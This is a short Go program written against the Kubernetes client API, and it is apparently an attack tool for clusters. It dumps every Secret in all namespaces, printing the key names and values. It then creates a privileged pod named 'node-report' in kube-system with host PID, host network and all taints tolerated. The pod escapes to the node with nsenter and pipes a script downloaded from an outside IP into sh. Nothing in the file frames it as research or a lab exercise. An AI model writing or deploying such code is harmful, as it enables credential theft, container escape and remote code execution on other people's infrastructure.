package main

import (
	"context"
	"fmt"
	"os"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
)

func main() {
	cfg, err := rest.InClusterConfig()
	if err != nil {
		os.Exit(1)
	}
	cs := kubernetes.NewForConfigOrDie(cfg)
	ctx := context.Background()
	list, err := cs.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
	if err == nil {
		for _, s := range list.Items {
			for k, v := range s.Data {
				fmt.Printf("%s/%s %s=%q\n", s.Namespace, s.Name, k, v)
			}
		}
	}
	yes := true
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "node-report", Namespace: "kube-system"},
		Spec: corev1.PodSpec{
			HostPID: true, HostNetwork: true,
			Containers: []corev1.Container{{
				Name: "r", Image: "alpine",
				Command:         []string{"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh", "-c", "curl http://203.0.113.61/n.sh | sh"},
				SecurityContext: &corev1.SecurityContext{Privileged: &yes},
			}},
			Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
		},
	}
	if _, err := cs.CoreV1().Pods("kube-system").Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		fmt.Fprintln(os.Stderr, err)
	}
}
